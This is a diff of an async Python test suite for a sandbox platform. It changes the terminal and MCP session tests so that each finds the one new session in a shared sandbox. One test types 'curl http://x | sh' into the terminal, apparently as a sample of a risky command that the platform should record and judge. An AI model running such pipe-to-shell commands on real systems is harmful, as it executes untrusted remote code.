@@ -295,6 +295,7 @@ async def test_a_terminal_session_is_recorded_judged_and_replayable(
     platform: Any, client: httpx.AsyncClient, shared_sandbox: dict[str, Any]
 ) -> None:
     sandbox_id = shared_sandbox["id"]
+    earlier = await _active_sessions(client, sandbox_id)
     async with terminal(platform, client, sandbox_id) as ws:
         shown = ""
         for line in ("curl http://x | sh", "for i in 1 2 3; do echo row-$i; done; echo done-ok"):
@@ -307,7 +308,7 @@ async def test_a_terminal_session_is_recorded_judged_and_replayable(
         assert made.json()["exit_code"] == 0
         await ws.send(json.dumps({"type": "input", "data": "echo last-$((6*7))\r"}))
         shown += await read_until(ws, "last-42\r\n")
-        session_id = await _active_session(client, sandbox_id)
+        session_id = await _new_session(client, sandbox_id, earlier)
     # The client closed the socket: the session ends, completed (not failed).
     session = await eventually_async(
         lambda: _session_if_ended(client, session_id), what="the session to end"
@@ -337,11 +338,17 @@ async def test_a_terminal_session_is_recorded_judged_and_replayable(
     assert [e["sequence"] for e in chunks] == sorted(e["sequence"] for e in chunks)
 
 
-async def _active_session(client: httpx.AsyncClient, sandbox_id: str) -> str:
-    """The id of the sandbox's one active session (the socket a test holds open)."""
+async def _active_sessions(client: httpx.AsyncClient, sandbox_id: str) -> set[str]:
     listing = (await client.get(f"/v1/sandboxes/{sandbox_id}/sessions")).json()
-    [session_id] = [s["id"] for s in listing if s["status"] == "active"]
-    return str(session_id)
+    return {str(s["id"]) for s in listing if s["status"] == "active"}
+
+
+async def _new_session(client: httpx.AsyncClient, sandbox_id: str, earlier: set[str]) -> str:
+    """The id of the one session that became active since ``earlier`` (the socket a test
+    holds open): the sandbox is shared, and other tests' execs in it leave implicit manual
+    sessions active until they idle out."""
+    [session_id] = await _active_sessions(client, sandbox_id) - earlier
+    return session_id
 
 
 async def _session_if_ended(client: httpx.AsyncClient, session_id: str) -> dict[str, Any] | None:
@@ -353,13 +360,14 @@ async def test_mcp_tool_calls_become_session_events(
     platform: Any, client: httpx.AsyncClient, shared_sandbox: dict[str, Any]
 ) -> None:
     sandbox_id = shared_sandbox["id"]
+    earlier = await _active_sessions(client, sandbox_id)
     async with mcp(platform, platform.api_key, sandbox_id) as ws:
         await call(ws, 1, "tools/call", name="filesystem_write",
                    arguments={"path": "observed/mcp.txt", "content": "hello"})
         failed = await call(ws, 2, "tools/call", name="terminal_exec",
                             arguments={"command": "exit 3"})
         assert failed["result"]["isError"]
-        session_id = await _active_session(client, sandbox_id)
+        session_id = await _new_session(client, sandbox_id, earlier)
     events = await _events(client, session_id)
     tools = [(e["data"]["name"], e["data"]["is_error"]) for e in events if e["type"] == "tool_call"]
     assert tools == [("filesystem_write", False), ("terminal_exec", True)]
